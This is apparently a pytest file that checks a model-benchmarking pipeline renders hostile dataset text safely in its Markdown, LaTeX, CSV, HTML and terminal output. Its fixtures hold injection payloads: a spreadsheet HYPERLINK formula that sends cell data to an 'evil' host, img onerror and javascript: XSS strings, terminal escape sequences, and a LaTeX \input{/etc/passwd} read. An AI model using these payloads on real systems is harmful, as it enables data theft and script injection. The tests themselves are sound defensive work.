"""Rows, answers and notes that try to be more than text, through a whole run into all that people read."""

import csv
import re
from pathlib import Path

import pytest
from made import FAILURE, MODEL, PSCP, Made, labelled
from markdown_it import MarkdownIt
from project import Project, project  # noqa: F401  (a fixture)

from peft_pipelines.reporting.comparisons import no_differences
from peft_pipelines.reporting.latex import latex
from peft_pipelines.reporting.results import write_table
from peft_pipelines.storage.artifact import Artifact

CLEAR, TITLE = "\x1b[2J", "\x1b]0;pwn\x07"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"the score")'
IMAGE = "<img src=x onerror=alert(1)>"
LINK = "[a|b](javascript:alert(1)) ![p](http://evil/p.png) `c"
FRONT = "---\nlicense: mit\n---\n# A title\n"
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


@pytest.fixture
def hostile(project: Project) -> Project:  # noqa: F811
    """A project whose rows, answers and notes hold all of it."""
    answers = [FORMULA, f"{IMAGE} {LINK}", f"{CLEAR}{TITLE}\u202e"]
    rows = [{"sentence": f"{IMAGE} {place}", "label": answers[max(0, place - 9)]} for place in range(12)]
    project.rows(train=rows, test=rows[:4])
    for field in ("label", "labels"):
        del project.task[field]
    project.task.update(target="{label}", metrics=["exact_match"], max_new_tokens=8, notes=IMAGE)
    project.task.update(licence=f"{LINK} {IMAGE}", citation=FRONT + TITLE)
    project.parameters["models"]["tiny"].update(notes=f"{FRONT}{IMAGE} {LINK} {CLEAR}", citation=f"{FRONT}|{IMAGE}")
    project.method("lora")
    return project


def files(project: Project, *endings: str) -> dict[str, str]:  # noqa: F811
    found = {path for ending in endings for path in (project.folder / "data").rglob(f"*{ending}") if path.is_file()}
    return {path.name: path.read_text(encoding="utf-8") for path in found}


def test_a_whole_run_shows_hostile_text_as_text(hostile: Project) -> None:
    done = hostile.kedro("run", "--pipelines=benchmark")
    assert done.exit_code == 0, done.output
    assert not CONTROL.search(done.output) and not CONTROL.search(done.stderr)
    texts = files(hostile, ".md", ".tex", ".csv")
    assert {"README.md", "results.md", "data_report.md", "results.tex", "results.csv"} <= texts.keys()
    assert not [name for name, text in texts.items() if CONTROL.search(text)]
    for name in ("README.md", "results.md", "data_report.md"):
        assert not elements(texts[name]) & {"img", "a", "script"}, name
    with (hostile.folder / "data/08_reporting/results.csv").open(newline="") as lines:
        majority, *_ = csv.DictReader(lines)
    assert majority["answer"] == f"'{FORMULA}"
    page = files(hostile, "report.html")["report.html"]
    assert "<img" not in page.partition("<script")[0] and CLEAR not in page


def elements(text: str) -> set[str]:
    """The elements of the page that a text of Markdown becomes, behind its front matter."""
    body = re.sub(r"\A---\n.*?\n---\n", "", text, flags=re.DOTALL)
    return set(re.findall(r"<(\w+)", MarkdownIt().enable("table").render(body)))


def test_a_hostile_label_is_one_clean_line(project: Project) -> None:  # noqa: F811
    project.rows(train=[{"sentence": "x", "label": f"{CLEAR}{TITLE}"}] * 4)
    done = project.kedro("run", "--pipelines=benchmark")
    assert done.exit_code == 1
    assert r"\x1b[2J\x1b]0;pwn\x07" in done.output and not CONTROL.search(done.output)
    assert "Traceback" not in done.output


def test_a_reason_of_a_failure_is_text_in_all_tables(tmp_path: Path) -> None:
    reason = f"{IMAGE} {LINK} \\input{{/etc/passwd}}"
    lost = {"good.tiny.moods.s0": FAILURE | {"reason": reason}}
    results = Made(tmp_path, {"base": 0.1, "good": 0.9}, [labelled()], lost=lost).table(no_differences())
    parts = [{"title": f"rank {IMAGE}", "type": "ValueError", "reason": f"{LINK} {FRONT}", "log": "x.log"}]
    text = write_table(results, PSCP, parts, **{"model.tiny": MODEL | {"notes": f"{FRONT}{IMAGE}"}})
    assert not elements(text) & {"img", "a", "code", "h1", "hr"}
    table = Artifact(filepath=str(tmp_path / "results.csv"))
    table.save(results.assign(reason=FORMULA, **{FORMULA: 1.5}))
    with (tmp_path / "results.csv").open(newline="") as lines:
        row = next(csv.DictReader(lines))
    assert row["reason"] == f"'{FORMULA}" and row[f"'{FORMULA}"] == "1.5"


def test_names_in_latex_are_text(tmp_path: Path) -> None:
    name = r"\input{/etc/passwd}"
    results = Made(tmp_path, {"base": 0.1, "good": 0.9}, [labelled()]).table(no_differences())
    text = latex(results.replace({"good": name, "moods": "[1cm]\n"}))
    assert r"\input" not in text and r"\textbackslash{}input\{/etc/passwd\}" in text and "{[}1cm{]}" in text
